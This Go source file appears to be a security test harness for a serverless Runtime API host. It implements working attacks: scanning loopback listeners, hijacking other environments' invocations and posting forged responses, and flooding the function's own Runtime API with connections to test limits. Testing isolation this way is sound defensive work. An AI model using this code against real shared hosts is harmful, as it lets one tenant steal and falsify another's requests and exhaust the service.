package main

// Attacks on the Runtime API: stealing another environment's invocations
// and flooding its own Runtime API with connections.

import (
	"bufio"
	"errors"
	"fmt"
	"io"
	"maps"
	"net"
	"net/http"
	"os"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"
)

// listeningPorts scans /proc/net/tcp for sockets listening on 127.0.0.1,
// as any process sharing the host's network can.
func listeningPorts() ([]int, error) {
	b, err := os.ReadFile("/proc/net/tcp")
	if err != nil {
		return nil, err
	}
	var out []int
	for _, line := range strings.Split(string(b), "\n")[1:] {
		f := strings.Fields(line)
		if len(f) < 4 || f[3] != "0A" { // TCP_LISTEN
			continue
		}
		addr, port, ok := strings.Cut(f[1], ":")
		if !ok || addr != "0100007F" {
			continue
		}
		if p, err := strconv.ParseUint(port, 16, 16); err == nil {
			out = append(out, int(p))
		}
	}
	return out, nil
}

// stealer parks GET /invocation/next on other environments' Runtime APIs
// and answers whatever it gets with a forged response.
type stealer struct {
	stop   chan struct{}
	wg     sync.WaitGroup
	stolen atomic.Int64
	forged atomic.Int64
}

var steal *stealer

// stealStart attacks ports (only those: the host may run other servers
// that are none of the test's business) and reports how the first attempt
// on each went: "refused" (no connection), "closed: …" (the server cut it
// before answering), "parked" (the long poll was accepted) or "http N".
func stealStart(ports []int) (map[string]string, error) {
	if steal != nil {
		return nil, errors.New("already stealing")
	}
	s := &stealer{stop: make(chan struct{})}
	steal = s
	first := make(map[string]string)
	var mu sync.Mutex
	var ready sync.WaitGroup
	for _, p := range ports {
		addr := "127.0.0.1:" + strconv.Itoa(p)
		ready.Add(1)
		s.wg.Add(1)
		go func() {
			defer s.wg.Done()
			reported := false
			report := func(outcome string) {
				if !reported {
					reported = true
					mu.Lock()
					first[addr] = outcome
					mu.Unlock()
					ready.Done()
				}
			}
			defer report("stopped")
			for {
				report(s.attempt(addr, func() { report("parked") }))
				select {
				case <-s.stop:
					return
				case <-time.After(20 * time.Millisecond):
				}
			}
		}()
	}
	ready.Wait()
	mu.Lock()
	defer mu.Unlock()
	return maps.Clone(first), nil
}

// attempt is one connection: GET /next, and a forged answer to whatever
// invocation comes back. parked is called once the poll is seen to wait.
func (s *stealer) attempt(addr string, parked func()) string {
	c, err := net.DialTimeout("tcp", addr, 10*time.Second)
	if errors.Is(err, syscall.ECONNRESET) {
		return "closed: " + err.Error() // taken and reset before connect returned
	}
	if err != nil {
		return "refused"
	}
	defer c.Close()
	go func() {
		<-s.stop
		c.Close()
	}()
	if _, err := io.WriteString(c, "GET /2018-06-01/runtime/invocation/next HTTP/1.1\r\nHost: "+addr+"\r\n\r\n"); err != nil {
		return "closed: " + err.Error()
	}
	// A server that refuses the connection resets it at once; a poll it
	// accepted waits for an invocation.
	br := bufio.NewReader(c)
	_ = c.SetReadDeadline(time.Now().Add(10 * time.Second))
	if _, err := br.Peek(1); err != nil {
		var ne net.Error
		if !errors.As(err, &ne) || !ne.Timeout() {
			return "closed: " + err.Error()
		}
		parked()
		_ = c.SetReadDeadline(time.Time{})
	}
	resp, err := http.ReadResponse(br, nil)
	if err != nil {
		return "closed: " + err.Error()
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	id := resp.Header.Get("Lambda-Runtime-Aws-Request-Id")
	if resp.StatusCode != http.StatusOK || id == "" {
		return "http " + strconv.Itoa(resp.StatusCode)
	}
	s.stolen.Add(1)
	body := `{"forged":true}`
	fmt.Fprintf(c, "POST /2018-06-01/runtime/invocation/%s/response HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n\r\n%s", id, addr, len(body), body)
	if resp, err := http.ReadResponse(br, nil); err == nil {
		resp.Body.Close()
		if resp.StatusCode == http.StatusAccepted {
			s.forged.Add(1)
		}
	}
	return "http 200"
}

// stealStop ends the attack: how many invocations were stolen and how
// many forged answers were taken.
func stealStop() (stolen, forged int, err error) {
	s := steal
	if s == nil {
		return 0, 0, errors.New("not stealing")
	}
	close(s.stop)
	s.wg.Wait()
	steal = nil
	return int(s.stolen.Load()), int(s.forged.Load()), nil
}

// flooded are the connections "flood" holds open until "flood-release".
var flooded []net.Conn

// flood opens up to n connections to this function's own Runtime API and
// keeps them; it reports how many it opened (a connection reset while
// connecting counts: the server took it) and how many of those the server
// keeps open once it has closed what it will (no more than max, if it
// keeps its limit).
func flood(n, max int) (opened, open int, err error) {
	addr := os.Getenv("AWS_LAMBDA_RUNTIME_API")
	for opened < n {
		c, derr := net.DialTimeout("tcp", addr, 5*time.Second)
		if errors.Is(derr, syscall.ECONNRESET) {
			opened++
			continue
		}
		if derr != nil {
			err = derr
			break
		}
		opened++
		flooded = append(flooded, c)
	}
	// The server resets what it does not take as it works through its
	// accept queue: look again until no more than max are left open, or
	// give up after 20 s and report what is still open.
	pending := flooded
	deadline := time.Now().Add(20 * time.Second)
	for len(pending) > max && time.Now().Before(deadline) {
		pending = stillOpen(pending, 300*time.Millisecond)
	}
	return opened, len(pending), err
}

// stillOpen returns the connections of cs the server has not closed
// within wait.
func stillOpen(cs []net.Conn, wait time.Duration) []net.Conn {
	open := make([]bool, len(cs))
	var wg sync.WaitGroup
	for i, c := range cs {
		wg.Add(1)
		go func() {
			defer wg.Done()
			_ = c.SetReadDeadline(time.Now().Add(wait))
			var one [1]byte
			_, rerr := c.Read(one[:])
			open[i] = errors.Is(rerr, os.ErrDeadlineExceeded)
		}()
	}
	wg.Wait()
	var out []net.Conn
	for i, c := range cs {
		if open[i] {
			out = append(out, c)
		}
	}
	return out
}

func floodRelease() int {
	n := len(flooded)
	for _, c := range flooded {
		c.Close()
	}
	flooded = nil
	return n
}
